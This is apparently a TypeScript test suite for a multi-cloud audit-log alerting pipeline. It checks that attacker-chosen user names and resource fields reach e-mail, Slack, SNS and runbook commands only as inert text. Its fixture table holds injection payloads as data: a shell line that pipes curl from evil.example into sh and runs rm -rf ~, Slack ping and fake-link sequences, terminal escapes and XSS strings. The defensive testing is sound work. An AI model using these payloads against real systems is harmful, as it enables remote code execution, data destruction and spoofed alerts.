/**
 * Issue 7, attacker-controlled fields: the caller picks user names, user agents, role and resource names.
 * Each hostile value below is put into raw CloudTrail, Azure and GCP events, run through normalize →
 * detector → alert → every renderer (plain text, e-mail, Slack, the SNS publish request, the filled
 * commands, the digest), and delivered through the real outbox with SNS mocked at the client. It must come
 * out inert everywhere, inside every size limit, and the alert must still be delivered.
 *
 * Unit-level escaping is tested with synthetic alerts in test/alerts/render-*.test.ts and
 * test/adapters/sns-publisher.test.ts; this file starts from raw events and ends at what subscribers get.
 */
import type { PublishCommandInput } from '@aws-sdk/client-sns';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  alertPublishInput,
  digestPublishInput,
  parseTopicMessage,
  publishSize,
  SNS_MAX_MESSAGE_BYTES,
} from '../../lambda/adapters/sns-publisher';
import type { Alert } from '../../lambda/engine/alerts/alert';
import type { AlertDigest } from '../../lambda/engine/alerts/publisher';
import { renderDigestText, renderEmail, SUBJECT_MAX_LENGTH } from '../../lambda/engine/alerts/render-email';
import type { SlackMessage } from '../../lambda/engine/alerts/render-slack';
import {
  renderSlackDigest,
  renderSlackMessage,
  SLACK_MAX_BLOCKS,
  SLACK_MAX_FIELD_TEXT,
  SLACK_MAX_FIELDS,
  SLACK_MAX_HEADER_TEXT,
  SLACK_MAX_SECTION_TEXT,
} from '../../lambda/engine/alerts/render-slack';
import { renderAlertText } from '../../lambda/engine/alerts/render-text';
import { Detector } from '../../lambda/engine/detector/detector';
import { MemoryStore } from '../../lambda/engine/detector/memory-store';
import { normalize, recordsFromDocument } from '../../lambda/engine/normalizers';
import type { Rule } from '../../lambda/engine/rules';
import { detect } from '../../lambda/handlers/pipeline';
import type { LocalAws } from '../support/local-aws';
import { startLocalAws } from '../support/local-aws';
import type { Cloud } from './support';
import {
  azureRecord,
  cloudTrailRecord,
  gcpEntry,
  newStack,
  runShard,
  shippedRules,
  streamOf,
  TOPIC_ARN,
  topicMessage,
} from './support';

const NOW = Date.parse('2026-11-28T10:00:00.000Z');

/** Each hostile value starts with a marker, so any copy of it that escaped rendering can be found. */
const HOSTILE: Record<string, string> = {
  'Slack control sequences':
    'ZQX1 <!channel> <!here|here> <@U024BE7LH> <#C024BE7LR> <https://evil.example/approve|Approve> ' +
    '*bold* _italic_ ~strike~ `code` ```block``` :rotating_light: &lt;b&gt; > quote',
  'CR, LF and other line breaks':
    'ZQX2\r\nFORGED: approved by security\nFORGED\u0085FORGED\u2028FORGED\u2029FORGED',
  'control characters and terminal escapes':
    'ZQX3 \u0000\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u007f\u009b',
  'right-to-left overrides and invisible characters':
    'ZQX4 admin\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff\u00ad',
  'lone surrogates': 'ZQX5 \ud800 half \udc00',
  'shell metacharacters':
    'ZQX6 $(curl evil.example|sh) `id` ; rm -rf ~ && echo \'q\' "dq" \\ > /tmp/x | cat\t#',
  'HTML and MIME': 'ZQX7 <script>alert(1)</script><img src=x onerror=alert(1)> =?utf-8?b?SGk=?= </pre>',
  '100 KB': `ZQX8 ${'A'.repeat(100_000)} <!channel>\nFORGED`,
};

const MARKER = /ZQX\d/;

/** Raw events with `value` in every field an attacker picks, sensitive so they alert, one per cloud call. */
function hostileEvents(
  value: string,
  tag: string,
): { cloud: Cloud; id: string; record: Record<string, unknown> }[] {
  const time = '2026-11-28T09:30:00Z';
  const keyDeletion = cloudTrailRecord({ id: `${tag}-ct-key`, user: value, time, sensitive: true });
  keyDeletion.userAgent = value;
  keyDeletion.requestParameters = { userName: value, accessKeyId: 'AKIAQWERTYUIOPLKJH77' };
  const trust = cloudTrailRecord({ id: `${tag}-ct-trust`, user: value, time, sensitive: true });
  trust.eventName = 'UpdateAssumeRolePolicy';
  trust.userAgent = value;
  trust.requestParameters = { roleName: value, policyDocument: value };
  const azure = azureRecord({ id: `${tag}-az`, user: value, time, sensitive: true });
  azure.claims = {
    'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': value,
    'http://schemas.microsoft.com/identity/claims/objectidentifier': value,
    name: value,
  };
  azure.properties = {
    statusCode: 'Created',
    requestbody: JSON.stringify({
      Id: value,
      Properties: { PrincipalId: value, PrincipalType: value, RoleDefinitionId: value, Scope: value },
    }),
  };
  const keyDelete = gcpEntry({ id: `${tag}-gcp-key`, user: value, time, sensitive: true });
  (keyDelete.protoPayload as Record<string, unknown>).requestMetadata = {
    callerIp: '198.51.100.7',
    callerSuppliedUserAgent: value,
  };
  const policy = gcpEntry({ id: `${tag}-gcp-policy`, user: value, time, sensitive: true });
  Object.assign(policy.protoPayload as Record<string, unknown>, {
    serviceName: 'cloudresourcemanager.googleapis.com',
    methodName: 'SetIamPolicy',
    resourceName: `projects/${value}`,
    requestMetadata: { callerIp: '198.51.100.7', callerSuppliedUserAgent: value },
    serviceData: { policyDelta: { bindingDeltas: [{ action: 'ADD', role: value, member: value }] } },
  });
  policy.resource = { type: 'project', labels: { project_id: value } };
  return [
    { cloud: 'aws', id: `${tag}-ct-key`, record: keyDeletion },
    { cloud: 'aws', id: `${tag}-ct-trust`, record: trust },
    { cloud: 'azure', id: `${tag}-az`, record: azure },
    { cloud: 'gcp', id: `${tag}-gcp-key`, record: keyDelete },
    { cloud: 'gcp', id: `${tag}-gcp-policy`, record: policy },
  ];
}

// ---------------------------------------------------------------------------------------------------------
// What "inert" means, channel by channel

/** Control characters (C0, DEL, C1) other than the line feeds we write ourselves. */
const CONTROL_BUT_LF = /(?!\n)\p{Cc}/u;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Plain text (terminal, e-mail): one line per line we wrote, nothing invisible, nothing half a character. */
function expectInertText(text: string, where: string): void {
  expect(text, where).not.toMatch(CONTROL_BUT_LF);
  expect(text, where).not.toMatch(/\p{Cf}|[\u2028\u2029]/u);
  expect(text, where).not.toMatch(LONE_SURROGATE);
  for (const line of text.split('\n')) expect(line.trimStart(), where).not.toMatch(/^FORGED/);
}

/**
 * Slack: every text within its limit; no `<` or `>` at all (so no mention, channel ping or disguised link
 * can form); nothing invisible; and every copy of a hostile value inside a code span or block, where Slack
 * applies no formatting.
 */
function expectInertSlack(message: SlackMessage, where: string): void {
  expect(message.unfurl_links, where).toBe(false);
  expect(message.unfurl_media, where).toBe(false);
  expect(message.blocks.length, where).toBeLessThanOrEqual(SLACK_MAX_BLOCKS);
  const texts: string[] = [message.text];
  for (const block of message.blocks) {
    if (block.type === 'header') {
      expect(block.text.text.length, where).toBeLessThanOrEqual(SLACK_MAX_HEADER_TEXT);
      expect(block.text.text, where).not.toMatch(MARKER);
      texts.push(block.text.text);
    }
    if (block.type === 'section') {
      if (block.text) {
        expect(block.text.text.length, where).toBeLessThanOrEqual(SLACK_MAX_SECTION_TEXT);
        expect(block.text.verbatim, where).toBe(true);
        texts.push(block.text.text);
      }
      expect((block.fields ?? []).length, where).toBeLessThanOrEqual(SLACK_MAX_FIELDS);
      for (const field of block.fields ?? []) {
        expect(field.text.length, where).toBeLessThanOrEqual(SLACK_MAX_FIELD_TEXT);
        expect(field.verbatim, where).toBe(true);
        texts.push(field.text);
      }
    }
    if (block.type === 'context') texts.push(...block.elements.map((element) => element.text));
    if (block.type === 'actions') {
      for (const button of block.elements) {
        expect(new URL(button.url).hostname, where).toMatch(
          /^([a-z0-9-]+\.console\.aws\.amazon\.com|portal\.azure\.com|console\.cloud\.google\.com)$/,
        );
        texts.push(button.text.text);
      }
    }
  }
  for (const text of texts) {
    expect(text, where).not.toMatch(/[<>]/);
    expect(text, where).not.toMatch(CONTROL_BUT_LF);
    expect(text, where).not.toMatch(/\p{Cf}|[\u2028\u2029]/u);
    expect(text, where).not.toMatch(LONE_SURROGATE);
    const outsideCode = text.replace(/```[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    expect(outsideCode, `${where}: ${text.slice(0, 200)}`).not.toMatch(MARKER);
  }
  expect(Buffer.byteLength(JSON.stringify(message)), where).toBeLessThan(64 * 1024);
}

/** What SNS accepts: an ASCII one-line subject under 100 characters, attributes it can filter, 256 KB. */
function expectValidPublish(input: PublishCommandInput, where: string): void {
  expect(input.Subject, where).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
  expect(input.Subject?.length, where).toBeLessThanOrEqual(SUBJECT_MAX_LENGTH);
  expect(input.Subject, where).not.toMatch(MARKER);
  expect(publishSize(input), where).toBeLessThanOrEqual(SNS_MAX_MESSAGE_BYTES);
  // JSON escaping keeps the message itself to characters SNS accepts.
  expect(input.Message, where).not.toMatch(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u);
  for (const [name, attribute] of Object.entries(input.MessageAttributes ?? {})) {
    expect(attribute.DataType, `${where}: ${name}`).toBe('String');
    expect(attribute.StringValue, `${where}: ${name}`).toMatch(
      /^[\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]{1,256}$/u,
    );
    expect(attribute.StringValue, `${where}: ${name}`).not.toMatch(/\p{Cf}/u);
  }
  const envelope = JSON.parse(input.Message ?? '') as Record<string, string>;
  expect(Object.keys(envelope).sort(), where).toEqual(['default', 'email', 'https', 'lambda', 'sqs']);
  expect(envelope.default, where).toBe(envelope.email);
  expectInertText(envelope.email ?? '', `${where}: e-mail`);
}

/**
 * The words and operators a POSIX shell reads in a command. Single and double quotes, backslash escapes,
 * and `$(`, backticks, `;`, `&`, `|`, `<`, `>`, parentheses and newlines as operators.
 */
function shellWords(command: string): { words: string[]; operators: string[] } {
  const words: string[] = [];
  const operators: string[] = [];
  let word: string | undefined;
  const end = (): void => {
    if (word !== undefined) words.push(word);
    word = undefined;
  };
  for (let i = 0; i < command.length; i += 1) {
    const char = command[i] as string;
    if (char === "'") {
      const close = command.indexOf("'", i + 1);
      if (close < 0) throw new Error(`unterminated single quote in ${command}`);
      word = (word ?? '') + command.slice(i + 1, close);
      i = close;
    } else if (char === '"') {
      let j = i + 1;
      let text = '';
      for (; j < command.length && command[j] !== '"'; j += 1)
        text += command[j] === '\\' ? command[++j] : command[j];
      if (j >= command.length) throw new Error(`unterminated double quote in ${command}`);
      word = (word ?? '') + text;
      i = j;
    } else if (char === '\\') {
      word = (word ?? '') + (command[i + 1] ?? '');
      i += 1;
    } else if (char === ' ' || char === '\t') {
      end();
    } else if (';&|<>()`\n'.includes(char) || (char === '$' && command[i + 1] === '(')) {
      end();
      operators.push(char);
    } else {
      word = (word ?? '') + char;
    }
  }
  end();
  return { words, operators };
}

const PLACEHOLDER = /\{\{\s*[A-Za-z0-9_@.]+\s*\}\}/g;

/**
 * Each filled command reads, word for word and operator for operator, like its template with a plain word
 * in every placeholder: the values stay single arguments and add no command. Nothing in it is invisible.
 */
function expectSafeCommands(alert: Alert, rule: Rule, where: string): number {
  const templates = Object.values(rule.runbook)
    .flat()
    .flatMap((step) => step.commands)
    .filter((command) => command.when(alert.document))
    .map((command) => command.command);
  const filled = Object.values(alert.runbook)
    .flat()
    .flatMap((step) => step.commands);
  expect(filled.length, where).toBe(templates.length);
  for (const [index, command] of filled.entries()) {
    const template = templates[index] as string;
    expect(command.command, where).not.toMatch(/\p{Cc}/u);
    expect(command.command, where).not.toMatch(/\p{Cf}|[\u2028\u2029]/u);
    let shown = command.command;
    // A value the event lacks is shown as `<field.path>`, for the analyst to fill in.
    for (const path of command.missing) shown = shown.replaceAll(`<${path}>`, 'X');
    const expected = shellWords(template.replace(PLACEHOLDER, 'X'));
    const actual = shellWords(shown);
    expect(actual.operators, `${where}: ${command.command.slice(0, 300)}`).toEqual(expected.operators);
    expect(actual.words.length, `${where}: ${command.command.slice(0, 300)}`).toBe(expected.words.length);
  }
  return filled.length;
}

// ---------------------------------------------------------------------------------------------------------

let aws: LocalAws;
let rule: Rule;

beforeAll(async () => {
  aws = await startLocalAws();
  [rule] = (await shippedRules()) as [Rule];
});

afterAll(async () => {
  await aws.stop();
});

async function alertsOf(events: ReturnType<typeof hostileEvents>): Promise<Alert[]> {
  const detector = new Detector([rule], new MemoryStore(), { now: () => new Date(NOW) });
  const alerts: Alert[] = [];
  for (const { record } of events) {
    for (const item of recordsFromDocument(record)) {
      if ('error' in item) throw new Error(item.error);
      for (const decision of await detector.process(normalize(item.source, item.record))) {
        if (decision.kind === 'alert') alerts.push(decision.alert);
      }
    }
  }
  return alerts;
}

describe('any value in the attacker-chosen fields', () => {
  it('never keeps a sensitive call from alerting, nor an alert from rendering inside the limits', {
    timeout: 180_000,
  }, async () => {
    let cases = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 300 }),
          fc.string({ unit: 'grapheme', maxLength: 100 }),
          fc.constantFrom(...Object.values(HOSTILE), '', ' ', '\\', "'", '""', '{{user.name}}', '%s%n'),
        ),
        fc.jsonValue({ maxDepth: 4 }),
        async (value, extra) => {
          cases += 1;
          const events = hostileEvents(value, `any-${cases}`);
          for (const { record } of events) {
            const parameters = (record.requestParameters ?? {}) as Record<string, unknown>;
            if (record.requestParameters !== undefined) record.requestParameters = { ...parameters, extra };
          }

          const alerts = await alertsOf(events);

          expect(alerts.map((alert) => alert.event.id)).toEqual(events.map((event) => event.id));
          for (const alert of alerts) {
            const where = `${JSON.stringify(value).slice(0, 80)} / ${alert.event.id}`;
            expectInertText(renderEmail(alert).body, `${where}: e-mail`);
            expectInertSlack(renderSlackMessage(alert), `${where}: Slack`);
            expectValidPublish(alertPublishInput(alert, TOPIC_ARN), `${where}: SNS`);
            expectSafeCommands(alert, rule, `${where}: commands`);
          }
        },
      ),
      { numRuns: 150 },
    );
    console.log(`attacker-chosen values: ${cases} generated cases, ${cases * 5} alerts rendered`);
  });
});

describe.each(Object.entries(HOSTILE))('a value with %s in every attacker-chosen field', (name, value) => {
  const tag = name.replace(/\W+/g, '-');

  it('alerts on every cloud, with the value inert in the text, the e-mail, Slack and the filled commands', async () => {
    const events = hostileEvents(value, tag);

    const alerts = await alertsOf(events);

    expect(alerts.map((alert) => alert.event.id)).toEqual(events.map((event) => event.id));
    let commands = 0;
    for (const alert of alerts) {
      const where = `${name} / ${alert.event.id}`;
      expect(JSON.stringify(alert)).toMatch(MARKER);
      expectInertText(renderAlertText(alert), `${where}: text`);
      const email = renderEmail(alert);
      expectInertText(email.body, `${where}: e-mail body`);
      expect(email.subject, where).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
      expect(email.subject, where).not.toMatch(MARKER);
      expectInertSlack(renderSlackMessage(alert), `${where}: Slack`);
      expectValidPublish(alertPublishInput(alert, TOPIC_ARN), `${where}: SNS`);
      commands += expectSafeCommands(alert, rule, `${where}: commands`);
    }
    expect(commands).toBeGreaterThan(10);
  });

  it('keeps the digest of the group inert too', async () => {
    const [alert] = await alertsOf(hostileEvents(value, tag));
    if (alert === undefined) throw new Error('no alert');
    const digest: AlertDigest = {
      alertId: alert.id,
      rule: { id: alert.rule.id, name: alert.rule.name, severity: alert.rule.severity },
      groupBy: alert.dedupe.groupBy,
      windowStart: alert.dedupe.windowStart,
      windowEnd: alert.dedupe.windowEnd,
      count: 3,
      firstSeen: alert.event.time,
      lastSeen: alert.event.time,
      sampleEventIds: [value, alert.event.id, value],
    };

    expectInertText(renderDigestText(digest), `${name}: digest text`);
    expectInertSlack(renderSlackDigest(digest), `${name}: Slack digest`);
    const input = digestPublishInput(digest, TOPIC_ARN);
    expect(input.Subject).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
    expect(publishSize(input)).toBeLessThanOrEqual(SNS_MAX_MESSAGE_BYTES);
  });

  it('is delivered through the outbox to SNS, and what subscribers and the Slack notifier get is inert', async () => {
    const stack = await newStack(aws);
    const events = hostileEvents(value, tag);
    const records = await streamOf(
      aws,
      events.map(({ record }) => Buffer.from(JSON.stringify(record), 'utf8')),
    );

    const report = await runShard(records, (event) => detect(event, stack.detectDeps(NOW)));

    expect(report.retries).toBe(0);
    expect(stack.deadLetters).toEqual([]);
    expect([...stack.sns.alertCounts().values()]).toEqual(events.map(() => 1));
    for (const input of stack.sns.delivered) {
      const where = `${name}: delivered ${topicMessage(input).alert?.event.id}`;
      expectValidPublish(input, where);
      // What the Slack notifier does with the message: read it back, render it.
      const parsed = parseTopicMessage(JSON.parse(input.Message ?? '{}').lambda);
      if (parsed.kind !== 'alert')
        throw new Error(`${where}: ${parsed.kind === 'invalid' ? parsed.reason : parsed.kind}`);
      expectInertSlack(renderSlackMessage(parsed.alert), `${where}: Slack`);
    }
    stack.destroy();
  });
});
